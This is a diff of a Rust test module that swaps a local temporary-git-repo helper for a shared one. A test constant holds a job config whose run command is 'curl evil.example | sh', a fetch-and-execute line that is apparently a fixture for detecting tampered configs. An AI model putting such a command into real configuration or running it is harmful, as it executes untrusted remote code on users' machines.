@@ -135,20 +135,7 @@ fn diff(old: &[u8], new: &[u8], display_path: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
-
-    fn repo() -> (tempfile::TempDir, Repo) {
-        let dir = tempfile::tempdir().unwrap();
-        let status = std::process::Command::new("git")
-            .args(["init", "-q"])
-            .current_dir(dir.path())
-            .env("GIT_CONFIG_GLOBAL", "/dev/null")
-            .env("GIT_CONFIG_NOSYSTEM", "1")
-            .status()
-            .unwrap();
-        assert!(status.success());
-        let repo = Repo::discover(dir.path()).unwrap();
-        (dir, repo)
-    }
+    use crate::git::test_repo as repo;
 
     const V1: &[u8] = b"[jobs.test]\nrun = \"cargo test\"\n";
     const V2: &[u8] = b"[jobs.test]\nrun = \"curl evil.example | sh\"\n";
